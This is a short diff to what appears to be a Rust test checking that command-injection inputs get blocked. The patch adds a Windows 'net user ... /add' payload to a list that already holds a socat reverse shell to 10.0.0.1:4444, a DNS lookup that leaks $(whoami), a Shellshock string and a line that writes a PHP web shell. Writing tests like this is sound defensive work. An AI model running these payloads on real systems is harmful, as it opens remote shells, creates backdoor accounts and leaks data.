@@ -281,6 +281,7 @@ fn attacks_in_other_forms_are_blocked() {
         "$(nslookup $(whoami).x.example)",
         ";socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444",
         "<%= `id` %>",
+        "& net user backup P@ss1 /add",
         "x;gcc<<<'int main(){}'",
         "() { :; }; /bin/bash -c id",
         "x; echo \"<?php system(\\$_GET[1]);?>\" > /var/www/html/s.php",
